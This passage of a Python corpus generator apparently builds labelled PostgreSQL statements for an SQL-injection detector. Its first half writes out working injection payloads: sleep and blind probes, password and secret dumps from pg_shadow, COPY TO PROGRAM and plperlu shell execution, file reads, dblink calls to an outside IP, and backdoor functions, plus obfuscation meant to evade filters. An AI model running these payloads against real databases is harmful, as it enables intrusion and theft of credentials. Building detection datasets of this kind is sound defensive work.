            ("sleep_coalesce", "cond", "AND coalesce((SELECT pg_sleep(%d))::text, 'x') = 'x'" % s), ("sleep_in_filter", "cond", "AND (SELECT count(*) FILTER (WHERE pg_sleep(%d) IS NULL) FROM (VALUES (1)) z) = 1" % s),
            ("sleep_window_call", "cond", "AND (SELECT max(x) OVER () FROM (SELECT pg_sleep(%d) AS x) z) IS NULL" % s),
            ("heavy_cross_join", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) a, generate_series(1, 1000) b) > 0" % r.choice([3000, 5000, 8000])),
            ("heavy_sha256_loop", "cond", "AND (SELECT count(sha256(g::text::bytea)) FROM generate_series(1, %d) g) > 0" % r.choice([2500000, 4000000])),
            ("case_sleep_probe", "cond", "AND 1 = (CASE WHEN %s THEN (SELECT 1 FROM pg_sleep(%d)) ELSE 1 END)" % (pe, s)),
            ("sleep_in_order", "order", "(SELECT 1 FROM pg_sleep(%d))" % s), ("sleep_in_repl", "repl", "(SELECT %d FROM pg_sleep(%d))" % (a, s)),
            ("sleep_concat_empty", "concat", "(SELECT '' FROM pg_sleep(%d))" % s), ("stack_sleep_for", "stack", "SELECT pg_sleep_for('%d s')" % s),
            ("stack_sleep_until", "stack", "SELECT pg_sleep_until(now() + interval '%d seconds')" % s), ("assign_sleep", "assign", "{col} = (SELECT {col} FROM pg_sleep(%d))" % s),
            ("interval_sleep_term", "iexpr", "(SELECT interval '1 s' FROM pg_sleep(%d))" % s), ("frame_sleep_bound", "frame", "(SELECT %d FROM pg_sleep(%d))" % (a, s)),
            ("subscript_sleep", "sub", "(SELECT 1 FROM pg_sleep(%d))" % s), ("stored_sleep_concat", "concat", "(SELECT '' FROM pg_sleep(%d))" % s)]] + [
            ("row_sleep", "row", row_of("(SELECT NULL FROM pg_sleep(%d))" % s), PG)]
    if fam == "boolean_blind":
        pn, pex = probe_named(r)
        pn2, pex2 = probe_named(r, "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pex, PG), ("or_" + pn, "cond", "OR " + pex, PG), ("loot_" + pn2, "cond", "AND " + pex2, PG),
                ("stored_" + pn2, "cond", "AND " + pex2, PG)] + [(n, "cond", c, PG) for n, c in [
                ("fdw_installed", "AND EXISTS (SELECT 1 FROM pg_extension WHERE extname = 'postgres_fdw')"),
                ("hasura_catalog_exists", "AND to_regclass('hdb_catalog.hdb_metadata') IS NOT NULL"), ("can_create_db", "AND (SELECT rolcreatedb FROM pg_roles WHERE rolname = current_user)"),
                ("execute_server_program", "AND pg_has_role('pg_execute_server_program', 'MEMBER')"), ("bypass_rls", "AND (SELECT rolbypassrls FROM pg_roles WHERE rolname = current_user)"),
                ("ssl_enabled", "AND current_setting('ssl') = 'on'"), ("many_backends", "AND (SELECT count(*) FROM pg_stat_activity) > %d" % a),
                ("flyway_history_present", "AND to_regclass('flyway_schema_history') IS NOT NULL"), ("user_mapping_exists", "AND EXISTS (SELECT 1 FROM pg_user_mappings)")]] + [
            ("assign_probe", "assign", "{col} = (CASE WHEN %s THEN {col} ELSE NULL END)" % pe, PG), ("row_probe", "row", row_of("(CASE WHEN %s THEN 1 ELSE 0 END)" % pe), PG),
            ("order_probe", "order", "(CASE WHEN %s THEN 1 ELSE 1/0 END)" % pe, PG), ("frame_probe", "frame", "(CASE WHEN %s THEN 1 ELSE 5 END)" % pe, PG),
            ("subscript_probe", "sub", "(CASE WHEN %s THEN 1 ELSE 2 END)" % pe, PG), ("jkey_probe", "jkey", "(CASE WHEN %s THEN 'y' ELSE 'n' END)" % pe, PG)]
    if fam == "error_cast":
        return [(n, "cond", c, PG) for n, c in [
            ("cast_bigint", "AND %s::bigint = 1" % x), ("cast_date", "AND %s::date IS NULL" % x), ("cast_jsonb", "AND %s::jsonb IS NULL" % x), ("cast_inet", "AND %s::inet IS NULL" % x),
            ("cast_boolean", "OR %s::boolean" % x), ("cast_regproc", "AND %s::regproc IS NULL" % x), ("cast_regtype", "AND %s::regtype IS NULL" % x),
            ("cast_tsquery_bad", "AND to_tsquery('&' || %s) IS NULL" % x), ("jsonpath_bad", "AND jsonb_path_query_first('{}', (%s || ' ?(')::jsonpath) IS NULL" % x),
            ("int4range_bad", "AND int4range(%s::int, 1) IS NULL" % x), ("make_interval_bad", "AND make_interval(days => %s::int) IS NULL" % x),
            ("array_subscript_text", "AND (ARRAY[1])[%s::int] IS NULL" % x), ("xml_bad", "AND %s::xml IS NULL" % x), ("numeric_cast_fn", "AND numeric(%s) > 0" % x),
            ("raise_via_do_sql", "AND (SELECT pg_catalog.int4(%s)) = 0" % x), ("case_zero_div", "AND 1 = (CASE WHEN %s THEN 1/0 ELSE 1 END)" % pe),
            ("case_log_zero", "AND (CASE WHEN %s THEN ln(0) ELSE 1 END) > 0" % pe), ("stored_cast_leak", "AND CAST(%s AS bigint) = 0" % x)]] + [
            ("repl_cast_int", "repl", "(SELECT %s::int)" % x, PG), ("concat_cast_date", "concat", "%s::date::text" % x, PG), ("order_cast_bigint", "order", "%s::bigint" % x, PG),
            ("assign_cast", "assign", "{col} = %s::numeric" % x, PG), ("row_cast", "row", row_of("%s::int" % x), PG), ("interval_cast", "iexpr", "%s::interval" % x, PG),
            ("jkey_cast", "jkey", "%s::int::text" % x, PG), ("subscript_cast", "sub", "%s::int" % x, PG)]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        n = r.randint(1, 5)
        return [
            ("dollar_eq_tag", "cond", "OR %s = %s" % (D(w), D(w)), PG), ("dollar_like", "cond", "OR %s LIKE %s" % (D(w), D(w[:2] + "%")), PG),
            ("dollar_in_list", "cond", "OR %s IN (%s, %s)" % (D(w), D(w2), D(w)), PG), ("dollar_error_cast", "cond", "AND (%s || (%s)::text)::int = 0" % (D("x"), e), PG),
            ("dollar_create_role", "stack", "CREATE ROLE %s LOGIN PASSWORD %s" % (nm, D(rword(r, 10))), PG),
            ("dollar_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM %s" % D(cmd), PG), ("dollar_read_file", "stack", "SELECT pg_read_file(%s)" % D(f), PG),
            ("dollar_server_options", "stack", "CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %s)" % (nm, D(ip)), PG),
            ("dollar_union_tag", "union", "UNION ALL SELECT %s" % nulls(n, r.randrange(n), "%s || (%s)::text" % (D(w + ":"), e)), PG),
            ("dollar_concat", "concat", "%s || (%s)::text" % (D(" "), e), PG), ("dollar_repl", "repl", "(SELECT length(%s))" % D(w), PG),
            ("dollar_assign", "assign", "{col} = %s" % D("1"), PG), ("dollar_row", "row", row_of(D(w)), PG), ("dollar_iexpr", "iexpr", "%s::interval" % D("%d hours" % a), PG)]
    if fam == "e_escape":
        u4 = lambda v: "".join("\\u%04X" % ord(c) for c in v)
        oct_ = lambda v: "".join("\\%03o" % ord(c) for c in v)
        return [
            ("e_octal_eq", "cond", "OR E'%s' = '%s'" % (oct_(w), w), PG), ("e_unicode_upper_eq", "cond", "OR E'%s' = '%s'" % (u4(w), w), PG),
            ("e_backslash_quote_eq", "cond", "OR E'\\'' = chr(39)", PG), ("uamp_string_eq", "cond", "OR U&'\\%04X%s' = '%s'" % (ord(w[0]), w[1:], w), PG),
            ("uamp_plus_escape", "cond", "OR U&'\\+0000%X' = chr(%d)" % (ord(w[0]), ord(w[0])), PG),
            ("e_octal_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % oct_(plain(cmd)), PG),
            ("convert_from_decode_b64", "stack", "SELECT pg_read_file(convert_from(decode('%s', 'base64'), 'SQL_ASCII'))" % base64.b64encode(f.encode()).decode(), PG),
            ("chr_built_role", "stack", "SELECT set_config(%s, 'on', false)" % "||".join("chr(%d)" % ord(c) for c in "log_statement"[:6]), PG),
            ("uamp_ident_table", "union", "UNION ALL SELECT %s FROM U&\"\\0070g_shadow\"" % nulls(r.randint(1, 4), 0, "passwd"), PG),
            ("e_newline_concat", "concat", "E'\\r\\n' || (%s)::text" % e, PG), ("e_unicode_interval", "iexpr", "E'\\u0031 hour'::interval", PG),
            ("e_hex_assign", "assign", "{col} = E'\\x74\\x72\\x75\\x65'", PG), ("e_octal_row", "row", row_of("E'%s'" % oct_(w)), PG),
            ("decode_hex_cond", "cond", "OR convert_from(decode('%s', 'hex'), 'UTF8') = '%s'" % (w.encode().hex(), w), PG)]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        B = lambda body: tg + " " + body + " " + tg
        evil = r.choice(["ALTER ROLE %s SUPERUSER" % role, "DROP TABLE %s" % t, "GRANT pg_read_server_files TO %s" % role, "CREATE ROLE %s SUPERUSER LOGIN" % nm,
                         "COPY (SELECT 1) TO PROGRAM '%s'" % plain(cmd)])
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute_translate", "DO %s" % B("BEGIN EXECUTE translate('%s', 'xyz', 'xyz'); END" % sq(evil))),
            ("do_execute_hex", "DO %s" % B("BEGIN EXECUTE convert_from('\\x%s'::bytea, 'UTF8'); END" % evil.encode().hex())),
            ("do_execute_replace", "DO %s" % B("BEGIN EXECUTE replace('%s', '#', ' '); END" % sq(evil.replace(" ", "#")))),
            ("do_execute_array_to_string", "DO %s" % B("BEGIN EXECUTE array_to_string(ARRAY[%s], ' '); END" % ", ".join("'%s'" % sq(p_) for p_ in evil.split(" ")))),
            ("do_execute_using", "DO %s" % B("BEGIN EXECUTE 'SELECT pg_sleep($1)' USING %d; END" % s)),
            ("do_loop_exfil_notice", "DO %s" % B("DECLARE r record; BEGIN FOR r IN SELECT %s AS v FROM %s LOOP RAISE NOTICE '%%', r.v; END LOOP; END" % (p, t))),
            ("do_perform_dblink", "DO %s" % B("BEGIN PERFORM dblink_exec('hostaddr=%s user=x', 'SELECT 1'); END" % ip)),
            ("do_exception_exfil", "DO %s" % B("BEGIN RAISE EXCEPTION '%%', (SELECT string_agg(%s, ',') FROM %s); END" % (p, t))),
            ("func_secdef_plant", "CREATE OR REPLACE FUNCTION public.%s() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS %s" % (nm, B("BEGIN EXECUTE '%s'; END" % sq(evil)))),
            ("event_trigger_fn", "CREATE FUNCTION %s() RETURNS event_trigger LANGUAGE plpgsql AS %s; CREATE EVENT TRIGGER %s ON ddl_command_start EXECUTE FUNCTION %s()"
             % (nm, B("BEGIN EXECUTE '%s'; END" % sq(evil)), nm, nm)),
            ("do_plperlu_system", "DO LANGUAGE plperlu %s" % B("system('%s');" % plain(cmd))), ("do_plpython_subprocess", "DO LANGUAGE plpython3u %s" % B("import subprocess; subprocess.run(['id'])")),
            ("do_commit_loop", "DO %s" % B("BEGIN FOR i IN 1..%d LOOP PERFORM pg_sleep(1); COMMIT; END LOOP; END" % s)),
            ("stored_do_execute", "DO %s" % B("BEGIN EXECUTE '%s'; END" % sq(evil)))]]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("shadow_agg", "(SELECT string_agg(usename || ':' || coalesce(passwd, ''), ';') FROM pg_shadow)"), ("user_mapping_opts", "(SELECT array_to_string(umoptions, ',') FROM pg_user_mappings LIMIT 1)"),
            ("activity_query", "(SELECT query FROM pg_stat_activity WHERE pid <> pg_backend_pid() LIMIT 1)"), ("ci_token", "(SELECT value FROM brew_ci_secrets LIMIT 1)"),
            ("loot_row_json", "(SELECT row_to_json(z)::text FROM %s z LIMIT 1)" % t), ("loot_jsonb_agg", "(SELECT jsonb_agg(%s)::text FROM %s)" % (p, t)),
            ("concat_fn_pair", "concat((SELECT %s FROM %s LIMIT 1), ':', (SELECT %s FROM %s LIMIT 1))" % (u, t, p, t)), ("encode_base64_secret", "encode(convert_to((SELECT %s FROM %s LIMIT 1), 'UTF8'), 'base64')" % (p, t)),
            ("settings_file", "current_setting('hba_file')"), ("quote_literal_secret", "quote_literal((SELECT %s FROM %s LIMIT 1))" % (p, t)),
            ("stored_concat_loot", "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who)), ("probe_yes_no", "(CASE WHEN %s THEN 'Y' ELSE 'N' END)" % pe)]] + [
            ("assign_loot", "assign", "{col} = (SELECT %s FROM %s LIMIT 1)" % (p, t), PG), ("row_loot", "row", row_of("(SELECT %s FROM %s LIMIT 1)" % (p, t), "NULL"), PG),
            ("jkey_loot", "jkey", "(SELECT %s FROM %s LIMIT 1)" % (p, t), PG)]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off: comment spellings weighted to ones the earlier files used least."""
    return r.choice(["--", "--", "-- -", "--\t", "-- ''", "--'", "--\"", "--%s" % rword(r, 2), "--!", "--=", "--]", "--%d" % r.randint(0, 9), "-- -- ",
                     ";--", "/* ", "/*%s" % rword(r, 3), "--\r\n", "--\u00a0"])


def kind_lead_in(knd, orig):
    """What a person types before the closing quote so the typed value stays well-formed."""
    if knd == "json":
        return '{"k": 1}'
    if knd == "jpath":
        return "$"
    return orig


def breakout(r, si, orig, mode, core):
    return corpus_kit.slot_breakout(globals(), r, si, orig, mode, core)


MODES = {"q": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict", "iexpr", "jkey"),
         "e": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict"),
         "d": ("stack", "repl", "concat"), "qi": ("cond", "stack", "order"),
         "n": ("cond", "union", "stack", "repl", "concat", "order", "row", "assign", "returning", "conflict", "frame", "sub"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}
SLOT_MODES = {"row": lambda si: si["row"] and si["lead"] == "INSERT", "conflict": lambda si: si["row"] and si["lead"] == "INSERT",
              "assign": lambda si: si["in_set"], "returning": lambda si: si["dml"], "iexpr": lambda si: si["kind"] == "interval",
              "frame": lambda si: si["frame"] and si["type"] == "n", "sub": lambda si: si["subscript"], "jkey": lambda si: si["jkey"]}


def fitting(si, cores):
    """The cores whose mode has a form for the slot; slot-aimed modes are kept only where they fit and
    weighted up; stored_* cores only (and more often) where a stored value is replayed."""
    out = []
    for c in corpus_kit.fitting(si, cores, MODES):
        if c[1] in SLOT_MODES:
            if SLOT_MODES[c[1]](si):
                out += [c] * 5
        elif c[0].startswith("stored_"):
            if si["second_order"]:
                out += [c] * 10
        else:
            out.append(c)
    return out


def hand(r, si, fam):
    return corpus_kit.slot_hand(globals(), r, si, fam)


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    if fam == "obf_case_mix":
        style = r.randrange(5)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return "".join(c.lower() if c.lower() in "aeiou" else c.upper() for c in w)
            if style == 1:
                return "".join(c.upper() if j % 2 else c.lower() for j, c in enumerate(w))
            if style == 2:
                return w[:-1].lower() + w[-1].upper()
            if style == 3:
                return w[:2].upper() + w[2:].lower()
            return "".join(c.lower() if r.random() < 0.5 else c.upper() for c in w)
        return "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\v", "\t\t\t", "\n\r", "\r", "\f", " \n ", "\t\n\t", "\t \n", "\n\n", "  \t"]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"\)", lambda m: r.choice(["\n)", "\t)", ")"]) if r.random() < 0.3 else ")", t)
            return re.sub(r"(=|\|\|)", lambda m: r.choice(["\t", "\n", "\f"]) + m.group(1) + r.choice(["\t", "\r", " "]) if r.random() < 0.35 else m.group(1), t)
        out = "".join(ws(t) if e else t for t, e in segs)
        return out.replace("\v", "\t")
    if fam == "obf_inline_comment":
        pool = ["/**/", "/*%s*/" % rword(r, r.randint(1, 6)), "/* */", "/*\t*/", "/*!*/", "/*+*/", "/*1*/", "/**//**/", "/*/* x */*/", "/*=*/", "/*)*/"]
        line = r.random() < 0.15

        def ic(t):
            if line:
                t = re.sub(r" +", lambda m: "--%s\n" % rword(r, r.randint(1, 3)), t)
            else:
                t = re.sub(r" +", lambda m: r.choice(pool), t)
            return re.sub(r",", lambda m: "/**/," if r.random() < 0.3 else ",", t)
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+;~&^@?%*/-]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in) (\d+|true|false|NULL|null|current_user|now\(\))",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(OR|AND|or|and|IN|in|SELECT|select) (')", r"\1\2", t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Siân O'Rourke", "Owain Pryce", "Lena Schütz", "K. Adebayo", "Priya R.", "Rhian Lloyd", "Jonas Ek", "Ma'ake Tupou", "Bethan", "Dai Morgan", "Zoë Kowalczyk"]
VARIETIES = ["Stevens", "Ben Lear", "Pilgrim", "Crimson Queen", "Mullica Queen", "Early Black", "Howes"]
PEPPERS = ["Scotch bonnet", "Aji Amarillo", "Habanero", "Carolina Reaper", "Fresno", "Jalapeño"]
REGIONS = ["Aegean", "Kermadec", "Hindu Kush", "Cascadia", "Alaska Peninsula", "Iceland"]


def complex_gens():
    G, add = registry()

    @add("cx17_jooq_render", "complex_orm_generated")
    def _(r):
        return r.choice([
            'select "public"."bog_beds"."bed_id", "public"."bog_beds"."variety" from "public"."bog_beds" where ("public"."bog_beds"."variety" = $1 and "public"."bog_beds"."acreage" > $2) order by "public"."bog_beds"."acreage" desc fetch next %d rows only' % r.choice([5, 10, 20]),
            'insert into "public"."harvest_loads" ("bed_id", "load_date", "barrels") values ($1, $2, $3) returning "public"."harvest_loads"."load_id"',
            'merge into "public"."harvest_tallies" using (select 1 "one") as "alias_17" on "public"."harvest_tallies"."bed_id" = $1 when matched then update set "barrels" = $2 when not matched then insert ("bed_id", "season", "barrels") values ($3, $4, $5)',
            'select count(*) from "public"."berry_samples" where "public"."berry_samples"."rot_pct" between $1 and $2 and "public"."berry_samples"."bed_id" in (%s)' % params(r.randint(1, 6), 3)])

    @add("cx17_hibernate_native", "complex_orm_generated")
    def _(r):
        return r.choice([
            "select w1_0.section_id,w1_0.estate_id,w1_0.length_m,w1_0.stone_type from wall_sections w1_0 where w1_0.estate_id=$1 order by w1_0.length_m desc offset $2 rows fetch first $3 rows only",
            "update wall_repairs set status=$1,waller=$2,version=$3 where repair_id=$4 and version=$5",
            "select g1_0.gang_id,g1_0.foreman,count(b1_0.booking_id) from wall_gangs g1_0 left join gang_bookings b1_0 on g1_0.gang_id=b1_0.gang_id group by g1_0.gang_id,g1_0.foreman having count(b1_0.booking_id)>%d" % r.randint(0, 9),
            "delete from gang_bookings where booked_for<$1 and gang_id in (%s)" % ids(r, r.randint(1, 5), 300)])

    @add("cx17_dapper_objection_typeorm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT TripId, CarName, DepartedAt FROM funicular_trips WHERE DepartedAt >= @p0 AND CarName = ANY(@p1)".replace("@p0", "$1").replace("@p1", "$2"),
            'select "suites".* from "suites" where "suites"."id" in (%s)' % params(r.randint(1, 8)),
            'SELECT "crock"."id" AS "crock_id", "crock"."pepper" AS "crock_pepper" FROM "crock" "crock" WHERE "crock"."id" IN (%s)' % ids(r, r.randint(1, 6), 500),
            'INSERT INTO "ph_reading"("crock_id", "ph", "note", "taken_at") VALUES ($1, $2, $3, DEFAULT) RETURNING "id", "taken_at"',
            'SELECT "Sauce"."id", "Sauce"."name", "Labels"."id" AS "Labels.id", "Labels"."lang" AS "Labels.lang" FROM "Sauces" AS "Sauce" LEFT OUTER JOIN "Labels" AS "Labels" ON "Sauce"."id" = "Labels"."sauceId" WHERE "Sauce"."deletedAt" IS NULL AND "Sauce"."heat" >= %d;' % r.randint(1, 10),
            'select "sculptures".* from "sculptures" where "sculptures"."artist" = $1 order by "sculptures"."id" asc limit %d' % r.choice([1, 10, 50])])

    @add("cx17_django_peewee_pony", "complex_orm_generated")
    def _(r):
        return r.choice([
            'SELECT "survey_sighting"."id", "survey_sighting"."species", "survey_sighting"."flash_count" FROM "survey_sighting" WHERE ("survey_sighting"."site_id" = %d AND "survey_sighting"."observed_on" >= \'%s\'::date) ORDER BY "survey_sighting"."observed_on" DESC LIMIT 21' % (r.randint(1, 300), rdate(r)),
            'SELECT "t1"."id", "t1"."walker", "t1"."started_at" FROM "transect_walk" AS "t1" WHERE ("t1"."site_id" = %d) ORDER BY "t1"."started_at" DESC LIMIT %d' % (r.randint(1, 90), r.choice([10, 20])),
            'SELECT "c"."id", "c"."hide" FROM "Coracle" "c" WHERE "c"."diameter_cm" BETWEEN %d AND %d' % (r.randint(80, 100), r.randint(101, 140)),
            'UPDATE "survey_volunteer" SET "last_seen" = \'%s\'::timestamptz WHERE "survey_volunteer"."id" = %d' % (rts(r), r.randint(1, 4000))])

    @add("cx17_builtin_ranges_json", "complex_builtin_funcs")
    def _(r):
        a, b = sorted(r.sample(range(1, 500), 2))
        return r.choice([
            "SELECT int4range(%d, %d) * int4range(%d, %d)" % (a, b, a + 3, b + 10), "SELECT upper(numrange(%d.5, %d.25, '[]'))" % (a, b),
            "SELECT tstzrange('%s', '%s') @> now()" % (rts(r), rts(r, 2027, 2028)), "SELECT range_merge(int8range(%d, %d), int8range(%d, %d))" % (a, b, b + 1, b + 20),
            "SELECT int4multirange(int4range(1, %d), int4range(%d, %d))" % (a, b, b + 5),
            "SELECT jsonb_path_query_array('{\"gain\": [%d, %d, %d]}', '$.gain[*] ? (@ > %d)')" % (a, b, a + b, a),
            "SELECT jsonb_pretty(jsonb_build_object('bed', %d, 'variety', '%s'))" % (a, r.choice(VARIETIES)),
            "SELECT jsonb_strip_nulls('{\"a\": null, \"b\": %d}'::jsonb)" % a, "SELECT json_object_keys('{\"hall\": 1, \"lit\": %d}')" % a,
            "SELECT to_tsvector('english', '%s flashes at dusk') @@ to_tsquery('english', 'flash')" % r.choice(["Photinus", "Photuris", "Lampyris"]),
            "SELECT ts_rank(to_tsvector('simple', 'frost sprinkler bed %d'), plainto_tsquery('simple', 'frost'))" % a,
            "SELECT array_positions(ARRAY[%d, %d, %d, %d], %d)" % (a, b, a, b, a), "SELECT trim_array(ARRAY[%s], 1)" % ids(r, 4, 99),
            "SELECT width_bucket(%d, 0, 500, 10)" % a, "SELECT gcd(%d, %d), lcm(%d, %d)" % (a, b, a, b), "SELECT regexp_substr('SCOBY-%04d-A', '[0-9]+')" % a,
            "SELECT string_to_table('%s', ',')" % ",".join(r.sample(PEPPERS, 3)), "SELECT date_bin('15 minutes', timestamp '%s', timestamp '2001-01-01')" % rts(r),
            "SELECT make_timestamptz(%d, %d, %d, 12, 0, 0, 'Europe/London')" % (r.randint(2020, 2026), r.randint(1, 12), r.randint(1, 28)),
            "SELECT pg_size_pretty(%d::bigint)" % r.randint(1000, 10 ** 10), "SELECT format('%%s-%%s', '%s', %d)" % (r.choice(VARIETIES), a),
            "SELECT encode(sha256('%s'::bytea), 'hex')" % rword(r, 8), "SELECT inet '192.0.2.%d' << inet '192.0.2.0/24'" % (a % 255)])

    @add("cx17_comments", "complex_comments_hints")
    def _(r):
        c = r.choice(["-- flyway: V%d__%s.sql\n" % (r.randint(1, 90), rword(r, 6)), "/* pgAdmin 4 query tool */ ", "/* metabase:question=%d user=%d */ " % (r.randint(1, 900), r.randint(1, 40)),
                      "-- grafana panel %d: humidity\n" % r.randint(1, 30), "/* hasura run_sql: source=default */\n", "/* dapper: FunicularRepository.GetTrips */ ",
                      "/*+ IndexScan(w idx_wall_sections_estate) */ ", "-- select * from old_table; (kept for reference)\n", "/* outer /* nested */ still comment */ ",
                      "/* traceparent='00-%032x-%016x-01' */ " % (r.getrandbits(128), r.getrandbits(64)), "-- jOOQ 3.19 generated\n"])
        body = r.choice(["SELECT bed_id, variety FROM bog_beds WHERE acreage > %d" % r.randint(1, 20), "SELECT count(*) FROM funicular_trips WHERE departed_at::date = '%s'" % rdate(r),
                         "UPDATE steel_pans SET last_tuned = current_date WHERE pan_id = %d" % r.randint(1, 80), "SELECT event_id, magnitude FROM quake_events ORDER BY origin_time DESC LIMIT %d" % r.randint(5, 50),
                         "DELETE FROM misting_log WHERE misted_at < now() - interval '%d days'" % r.randint(7, 400)])
        return r.choice([c + body, body + r.choice([" -- end", " /* done */", "\n-- trailing note: it's fine"])])

    @add("cx17_cte_window", "complex_cte_window")
    def _(r):
        return r.choice([
            "WITH RECURSIVE chain(event_id, depth) AS (SELECT event_id, 0 FROM quake_events WHERE parent_event IS NULL AND magnitude >= %d UNION ALL SELECT q.event_id, c.depth + 1 FROM quake_events q JOIN chain c ON q.parent_event = c.event_id) SELECT depth, count(*) FROM chain GROUP BY depth ORDER BY depth" % r.randint(4, 7),
            "SELECT bed_id, load_date, barrels, sum(barrels) OVER (PARTITION BY bed_id ORDER BY load_date ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM harvest_loads WHERE load_date >= '%s'" % rdate(r),
            "SELECT voice, pan_id, ntile(%d) OVER (PARTITION BY voice ORDER BY last_tuned) AS bucket FROM steel_pans" % r.randint(2, 5),
            "WITH daily AS (SELECT date_trunc('day', read_at) AS d, avg(humidity) AS h FROM drying_room GROUP BY 1) SELECT d, h, h - lag(h) OVER (ORDER BY d) AS delta FROM daily ORDER BY d DESC LIMIT %d" % r.randint(7, 60),
            "SELECT trap_id, counted_on, elvers, avg(elvers) OVER (PARTITION BY trap_id ORDER BY counted_on RANGE BETWEEN INTERVAL '%d days' PRECEDING AND CURRENT ROW) FROM elver_counts" % r.randint(3, 30),
            "SELECT judge, category, score, rank() OVER w, dense_rank() OVER w FROM judge_scores WHERE festival_year = %d WINDOW w AS (PARTITION BY category ORDER BY score DESC)" % r.randint(2019, 2026),
            "SELECT maker, count(*) FILTER (WHERE weight_g > %d) AS heavy, count(*) AS total FROM paddles GROUP BY maker" % r.randint(600, 1200)])

    @add("cx17_query_builders", "complex_query_builder")
    def _(r):
        return r.choice([
            'select "plot_no", "team" from "festival_plots" where "festival_year" = $1 and "zone" in (%s) order by "plot_no" asc' % params(r.randint(1, 5), 2),
            'SELECT * FROM "judge_scores" WHERE "category" = $1 AND "score" >= $2 ORDER BY "score" DESC LIMIT %d' % r.choice([10, 20, 100]),
            "select tune, count(*) as plays from gig_setlists where gig_id in (select gig_id from gigs where played_on >= $1) group by tune order by plays desc limit %d" % r.randint(3, 20),
            'SELECT "w"."segment_id" FROM "waveform_segments" AS "w" WHERE "w"."channel" = $1 AND "w"."span" && tstzrange($2, $3)',
            "SELECT licence, kg_allowed FROM eel_quotas WHERE licence = ANY($1::text[]) AND season = %d" % r.randint(2020, 2026),
            "SELECT %s FROM %s WHERE %s LIMIT %d OFFSET %d" % (r.choice(["*", "id, name", "count(*) OVER () AS total, id"]), r.choice(["movements", "combs", "music_boxes"]),
                                                  r.choice(["maker = $1", "made_year BETWEEN $1 AND $2", "maker ILIKE $1"]), r.choice([10, 25, 50]), r.choice([0, 25, 50, 100]))])

    @add("cx17_migration_scripts", "complex_migration_script")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "BEGIN;\nCREATE TABLE IF NOT EXISTS brew_batches_%d (id bigserial PRIMARY KEY, flavour text NOT NULL, bottled_at timestamptz);\nCREATE INDEX ON brew_batches_%d (bottled_at);\nCOMMIT;" % (n, n),
            "ALTER TABLE wall_sections ADD COLUMN IF NOT EXISTS coping_style_%d text;\nCOMMENT ON COLUMN wall_sections.coping_style_%d IS 'buck and doe, cock and hen';" % (n, n),
            "SET lock_timeout = '%ds';\nALTER TABLE quake_events ADD COLUMN reviewed_%d boolean NOT NULL DEFAULT false;\nRESET lock_timeout;" % (r.randint(2, 10), n),
            "CREATE TYPE pan_voice_%d AS ENUM ('tenor', 'double tenor', 'double seconds', 'cello', 'bass');\nALTER TABLE steel_pans ADD COLUMN voice_%d pan_voice_%d;" % (n, n, n),
            "-- liquibase formatted sql\n-- changeset brewery:%d\nCREATE TABLE flavour_notes_%d (flavour_code text REFERENCES flavours (code), note text);\n-- rollback DROP TABLE flavour_notes_%d;" % (n, n, n),
            "CREATE TABLE eel_tags_%d (pit_tag text PRIMARY KEY, length_mm int CHECK (length_mm > 0));\nINSERT INTO eel_tags_%d SELECT pit_tag, length_mm FROM eel_tags;\nANALYZE eel_tags_%d;" % (n, n, n)])

    @add("cx17_union_reports", "complex_union_report")
    def _(r):
        y = r.randint(2019, 2026)
        return r.choice([
            "SELECT 'beds' AS kind, count(*) FROM bog_beds UNION ALL SELECT 'loads', count(*) FROM harvest_loads WHERE load_date >= '%d-01-01'" % y,
            "SELECT plot_no FROM festival_plots WHERE festival_year = %d EXCEPT SELECT plot_no FROM misting_log" % y,
            "SELECT licence FROM eel_quotas WHERE season = %d INTERSECT SELECT licence FROM elver_counts" % y,
            "SELECT tune, 'gig' AS src FROM gig_setlists UNION SELECT title, 'library' FROM tunes WHERE tempo_bpm > %d ORDER BY 1" % r.randint(80, 140),
            "VALUES (%d, 'Sargol'), (%d, 'Negin') UNION ALL SELECT bed_id, grade FROM crocus_beds" % (r.randint(1, 50), r.randint(51, 99))])

    @add("cx17_batch_insert", "complex_batch_insert")
    def _(r):
        k = r.randint(2, 5)
        return r.choice([
            "INSERT INTO harvest_loads (bed_id, load_date, barrels) VALUES %s" % ", ".join("(%d, '%s', %d)" % (r.randint(1, 200), rdate(r), r.randint(10, 400)) for _ in range(k)),
